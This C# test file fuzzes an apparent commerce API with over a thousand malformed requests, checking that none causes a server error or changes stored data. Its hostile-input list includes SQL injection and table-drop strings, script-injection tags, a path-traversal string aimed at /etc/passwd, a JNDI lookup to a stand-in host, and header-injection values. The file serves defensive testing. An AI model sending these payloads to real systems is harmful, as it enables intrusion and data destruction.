using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using FluentAssertions;
using Xunit;

namespace Commerce.Api.Tests;

/// <summary>
/// Over a thousand malformed or hostile requests (wrong types, huge values, negative numbers, SQL and
/// script injection strings, unknown fields, broken JSON): none may cause a 5xx, and none may change
/// stored data. Every request is built to be invalid, so any success would itself be a finding.
/// </summary>
[Collection(ApiCollection.Name)]
public sealed class HostileInputFuzzTests(ApiFactory api)
{
    private static readonly string[] HostileStrings =
    [
        "' OR '1'='1", "'; DROP TABLE users; --", "Robert'); DELETE FROM audit_log;--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "../../../../etc/passwd", "%00", "\u0000\u0001\u0002", "${jndi:ldap://evil/a}", "{{7*7}}", "🦄🦄🦄", "\\u0000", "NaN", "-Infinity",
        new string('A', 5000), "$where: '1 == 1'", "\r\nSet-Cookie: pwned=1",
    ];

    private static readonly JsonNode?[] WrongTypes = [123, -1, 1e300, true, new JsonArray(1, 2), new JsonObject { ["$ne"] = 1 }];

    private static readonly (string Method, string Path, JsonObject Valid, string[] StringFields, string[] PatternFields)[] Bodies =
    [
        ("POST", "/me/addresses", new JsonObject { ["label"] = "Home", ["recipient"] = "Ann", ["line1"] = "Main 1", ["city"] = "Berlin", ["postalCode"] = "10115", ["country"] = "DE" },
            ["label", "recipient", "line1", "city", "postalCode"], ["country", "phone"]),
        ("POST", "/me/payment-methods", new JsonObject { ["kind"] = "card", ["token"] = "tok_valid_123456", ["last4"] = "4242" },
            ["brand"], ["kind", "token", "last4"]),
        ("PATCH", "/me", new JsonObject { ["displayName"] = "Ann" }, ["displayName"], ["phone"]),
        ("POST", "/me/password", new JsonObject { ["currentPassword"] = "wrong-current-pw", ["newPassword"] = "another-long-password" }, [], []),
        ("POST", "/auth/register", new JsonObject { ["email"] = "not-an-email", ["password"] = "long-enough-password", ["displayName"] = "X" }, ["displayName"], ["email"]),
        ("POST", "/auth/login", new JsonObject { ["email"] = "nobody@example.com", ["password"] = "wrong" }, ["email", "password"], []),
        ("POST", "/cart/items", new JsonObject { ["sku"] = "sku-fuzz", ["quantity"] = -1 }, [], ["sku"]),
        ("PUT", "/cart/items/sku-fuzz", new JsonObject { ["quantity"] = -5 }, [], []),
        ("POST", "/checkout", new JsonObject { ["expectedTotal"] = new JsonObject { ["amount"] = 1, ["currency"] = "EUR" } }, ["addressId", "paymentMethodId"], []),
    ];

    private static readonly JsonNode?[] HostileNumbers = [-1, 0, int.MinValue, 2147483648L, 1e300, 1.5, "7", null];

    [Fact]
    public async Task A_thousand_hostile_requests_cause_no_5xx_and_change_nothing()
    {
        var (customer, _, _) = await api.CustomerAsync(phone: "+49 30 555000");
        await customer.PostAsJsonAsync("/me/addresses", new { label = "Home", recipient = "Ann", line1 = "Main 1", city = "Berlin", postalCode = "10115", country = "DE" });
        var admin = await api.AdminAsync();
        var before = await SnapshotAsync(customer, admin);

        var requests = Generate().ToList();
        requests.Count.Should().BeGreaterThanOrEqualTo(1000);
        var failures = new List<string>();
        foreach (var batch in requests.Chunk(16))
        {
            var results = await Task.WhenAll(batch.Select(async r =>
            {
                var client = r.AsAdmin ? admin : customer;
                using var request = new HttpRequestMessage(new HttpMethod(r.Method), r.Path);
                if (r.Body is not null) request.Content = new StringContent(r.Body, System.Text.Encoding.UTF8, "application/json");
                using var response = await client.SendAsync(request);
                return (r, response.StatusCode);
            }));
            foreach (var (r, status) in results)
            {
                if ((int)status >= 500) failures.Add($"{(int)status} {r.Method} {r.Path} {Truncate(r.Body)}");
                else if ((int)status < 300 && r.Body is not null) failures.Add($"accepted {(int)status} {r.Method} {r.Path} {Truncate(r.Body)}");
            }
        }

        failures.Should().BeEmpty();
        (await SnapshotAsync(customer, admin)).Should().Be(before);
    }

    private static IEnumerable<(string Method, string Path, string? Body, bool AsAdmin)> Generate()
    {
        foreach (var (method, path, valid, stringFields, patternFields) in Bodies)
        {
            foreach (var hostile in HostileStrings)
            {
                yield return (method, path, With(valid, $"x{hostile.GetHashCode():x}", hostile), false); // unknown field
                foreach (var field in patternFields) yield return (method, path, With(valid, field, hostile), false);
                foreach (var field in stringFields) yield return (method, path, With(valid, field, new string('Z', 5000) + hostile), false);
            }

            foreach (var field in valid.Select(p => p.Key).Concat(stringFields).Concat(patternFields).Distinct())
            {
                foreach (var wrong in WrongTypes) yield return (method, path, With(valid, field, wrong?.DeepClone()), false);
            }

            if (valid.ContainsKey("quantity"))
            {
                foreach (var number in HostileNumbers) yield return (method, path, With(valid, "quantity", number?.DeepClone()), false);
            }

            var json = valid.ToJsonString();
            for (var cut = 1; cut < json.Length; cut += 2) yield return (method, path, json[..cut], false); // truncated JSON
            foreach (var junk in new[] { "", "null", "[]", "\"text\"", "42", "{\"a\":", "{{}}", "<xml/>" }) yield return (method, path, junk, false);
        }

        foreach (var hostile in HostileStrings.Where(h => h.Length < 100))
        {
            var q = Uri.EscapeDataString(hostile);
            yield return ("GET", $"/admin/users?role={q}", null, true);
            yield return ("GET", $"/admin/users?status={q}", null, true);
            yield return ("GET", $"/admin/users?limit={q}", null, true);
            yield return ("GET", $"/admin/audit?limit={q}&offset={q}", null, true);
            // A NUL in a path is refused by the server before routing (and by the in-memory test client before sending).
            if (hostile.Contains('\0')) continue;
            yield return ("GET", $"/admin/users/{q}", null, true);
            yield return ("DELETE", $"/me/addresses/{q}", null, false);
            yield return ("DELETE", $"/me/payment-methods/{q}", null, false);
            yield return ("PUT", $"/admin/users/{q}/roles", "{\"roles\":[\"admin\"]}", true);
        }

        foreach (var number in new[] { "-1", "-2147483648", "2147483648", "99999999999999999999", "1.5", "0x10" })
        {
            yield return ("GET", $"/admin/users?limit={number}", null, true);
            yield return ("GET", $"/admin/users?offset={number}", null, true);
        }
    }

    private static string With(JsonObject valid, string field, JsonNode? value)
    {
        var copy = (JsonObject)valid.DeepClone();
        copy[field] = value;
        return copy.ToJsonString();
    }

    private static async Task<string> SnapshotAsync(HttpClient customer, HttpClient admin)
    {
        var export = await (await customer.GetAsync("/me/export")).ShouldBeAsync(HttpStatusCode.OK);
        var account = export.GetProperty("account");
        var users = await (await admin.GetAsync("/admin/users?limit=1")).ShouldBeAsync(HttpStatusCode.OK);
        var cart = await (await customer.GetAsync("/cart")).ShouldBeAsync(HttpStatusCode.OK);
        return JsonSerializer.Serialize(new
        {
            profile = account.GetProperty("profile"),
            addresses = account.GetProperty("addresses"),
            paymentMethods = account.GetProperty("paymentMethods"),
            users = users.GetProperty("total").GetInt32(),
            cartLines = cart.GetProperty("lines"),
        });
    }

    private static string Truncate(string? text) => text is null ? "" : text.Length <= 120 ? text : text[..120] + "…";
}
